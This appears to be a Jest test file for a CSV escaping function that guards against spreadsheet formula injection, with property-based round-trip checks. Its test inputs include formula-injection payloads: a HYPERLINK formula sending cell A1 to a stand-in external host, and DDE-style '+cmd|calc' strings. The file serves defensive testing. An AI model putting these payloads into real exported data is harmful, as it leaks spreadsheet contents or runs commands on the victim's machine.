import { expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvText } from './csv-cell.ts';

test.each([
  ['=HYPERLINK("https://elsewhere.example/?"&A1,"Pay")', `"'=HYPERLINK(""https://elsewhere.example/?""&A1,""Pay"")"`],
  ['+cmd|calc', `"'+cmd|calc"`],
  ['-A1', `"'-A1"`],
  ['-2+cmd', `"'-2+cmd"`],
  ['@SUM(1)', `"'@SUM(1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['＝1', `"'＝1"`],
  ["'=1", `"''=1"`],
])('the formula %j is text for a spreadsheet', (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

test.each(['-12.50', '+1', '+1 (876) 555-0142', '', 'ann@example.com', '2026-11-26T12:00:00Z', 'BOLT-M8', "o'clock"])(
  '%j has no apostrophe before it',
  (text) => {
    expect([csvCell(text).replaceAll('"', ''), csvText(text)]).toEqual([text, text]);
  },
);

test.each(['', 'a', '2026-11-26', 'ann@example.com'])('%j has no quotes', (text) => {
  expect(csvCell(text)).toBe(text);
});

test('every text is read back as it was', () => {
  const start = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', '\n', "'=", "''-", '＝');
  fc.assert(
    fc.property(start, fc.string({ unit: 'grapheme' }), fc.string(), (first, rest, other) => {
      const [[cell, next] = []] = parse(`${csvCell(first + rest)},${csvCell(other)}\n`, { relax_column_count: true });

      expect([csvText(cell ?? ''), csvText(next ?? '')]).toEqual([first + rest, other]);
    }),
  );
});
